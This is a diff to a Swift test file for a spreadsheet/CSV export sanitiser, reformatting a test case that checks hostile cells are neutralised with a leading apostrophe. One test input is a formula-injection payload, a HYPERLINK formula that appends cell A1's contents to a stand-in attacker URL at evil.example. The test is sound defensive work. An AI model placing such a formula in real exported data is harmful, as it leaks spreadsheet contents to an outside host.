@@ -6,7 +6,10 @@ import Testing
     @Test(
         "hostile cells are neutralised with a leading apostrophe, and quoted when they need it",
         arguments: [
-            ("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\""),
+            (
+                "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
+                "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\""
+            ),
             ("+1", "'+1"),
             ("-2+3", "'-2+3"),
             ("-2", "'-2"),
